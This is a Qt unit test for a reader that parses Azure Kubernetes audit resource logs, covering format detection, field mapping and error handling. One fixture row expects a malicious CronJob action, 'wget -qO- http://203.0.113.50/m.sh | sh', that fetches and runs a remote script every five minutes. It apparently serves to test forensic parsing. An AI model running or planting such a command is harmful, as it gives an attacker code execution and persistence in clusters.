#include "ReaderTestSupport.h"

#include "ingest/AksResourceLogReader.h"
#include "ingest/FormatRegistry.h"

#include <QTest>

using namespace tb;
using namespace tb::testing;

class TestAksResourceLogReader : public QObject {
    Q_OBJECT

    static QString sample() {
        return QStringLiteral(TEST_DATA_DIR "/formats/kubernetes/aks_kube-audit-admin_resourcelogs.json");
    }
    static ReadResult read() { return readFile(factory<AksResourceLogReader>(), sample()); }

    static QByteArray record(const char *category, const char *log) {
        return QByteArray("{\"time\":\"2025-03-04T15:02:44Z\",\"resourceId\":\"/SUBSCRIPTIONS/X/"
                          "RESOURCEGROUPS/RG/PROVIDERS/"
                          "MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/AKS-TEST\",\"category\":\"") +
               category + "\",\"properties\":{\"log\":\"" + log + "\"}}";
    }

private slots:
    void detects_data() {
        QTest::addColumn<QByteArray>("head");
        QTest::addColumn<QString>("format");
        QTest::newRow("sample") << head(sample()) << "aks.resourcelogs.json";
        QTest::newRow("bigger than the head") << QByteArray("{\"records\": [{\"time\": \"x\", \"category\": "
                                                            "\"kube-audit\", \"properties\": {\"log\": \"") +
                                                     QByteArray(70000, 'a')
                                              << "aks.resourcelogs.json";
        QTest::newRow("other categories are not audit")
            << QByteArray("{\"records\":[{\"category\":\"kube-apiserver\"}]}") << "";
    }
    void detects() {
        QFETCH(QByteArray, head);
        QFETCH(QString, format);
        const ImportFormat *detected =
            FormatRegistry::instance().detect(FileHead::fromBytes(head.left(64 * 1024)));
        QCOMPARE(detected ? detected->id : QString(), format);
    }

    void readsEveryRecord() {
        const ReadResult result = read();
        QVERIFY2(result.issues.isEmpty(), qPrintable(result.issueText(0)));
        QCOMPARE(result.events.size(), 4);
        QVERIFY(result.events[0].raw.contains(QLatin1String("\"category\": \"kube-audit-admin\"")));
        QVERIFY(result.events[0].rawFields.contains(QLatin1String("\"aks.category\":\"kube-audit-admin\"")));
        QVERIFY(result.events[0].rawFields.contains(
            QLatin1String("\"auditID\":\"3f6c1a2e-9b8d-4e7f-a1c2-d3e4f5a6b7c8\"")));
    }

    void mapsFields_data() {
        QTest::addColumn<int>("record");
        QTest::addColumn<QString>("column");
        QTest::addColumn<QString>("expected");
        QTest::newRow("cluster from resourceId") << 0 << "host"
                                                 << "aks-prod-weu";
        QTest::newRow("log decoded twice: task") << 2 << "task_name"
                                                 << "default/kube-metrics-sync";
        QTest::newRow("action") << 2 << "task_action"
                                << "/bin/sh -c wget -qO- http://203.0.113.50/m.sh | sh";
        QTest::newRow("trigger") << 2 << "task_trigger"
                                 << "cron(*/5 * * * *)";
        QTest::newRow("image") << 2 << "container_image"
                               << "alpine:3.19";
        QTest::newRow("403") << 1 << "rule_name"
                             << "Kubernetes create cronjobs denied (403 Forbidden)";
        QTest::newRow("SSA patch created") << 3 << "task_operation"
                                           << "created";
        QTest::newRow("time") << 2 << "time_utc"
                              << "2025-03-04T15:02:44.331906Z";
    }
    void mapsFields() {
        QFETCH(int, record);
        QFETCH(QString, column);
        QFETCH(QString, expected);
        const ReadResult result = read();
        QVERIFY(record < result.events.size());
        QCOMPARE(value(result.events[record], column), expected);
    }

    void badRecords_data() {
        QTest::addColumn<QByteArray>("json");
        QTest::addColumn<QString>("issue");
        QTest::newRow("not audit")
            << "{\"records\":[" + record("kube-apiserver", "I0304 started") + "]}"
            << "a.json:record 0 (line 1): category: \"kube-apiserver\" is not an AKS audit category "
               "(kube-audit, kube-audit-admin)";
        QTest::newRow("log is not JSON")
            << "{\"records\":[" + record("kube-audit", "oops") + "]}"
            << "a.json:record 0 (line 1): properties.log: not a JSON audit event: The JSON "
               "document has an improper structure: missing or superfluous commas, braces, "
               "missing keys, etc.";
        QTest::newRow("unknown stage")
            << "{\"records\":[" +
                   record("kube-audit", "{\\\"auditID\\\":\\\"a\\\",\\\"stage\\\":\\\"Done\\\"}") + "]}"
            << "a.json:record 0 (line 1): stage \"Done\" is not a Kubernetes audit stage (RequestReceived, "
               "ResponseStarted, ResponseComplete, Panic)";
    }
    void badRecords() {
        QFETCH(QByteArray, json);
        QFETCH(QString, issue);
        const ReadResult result = readBytes(factory<AksResourceLogReader>(), json, "a.json");
        QCOMPARE(result.events.size(), 0);
        QCOMPARE(result.issueText(0), issue);
    }
};

QTEST_GUILESS_MAIN(TestAksResourceLogReader)
#include "tst_aksresourcelogreader.moc"
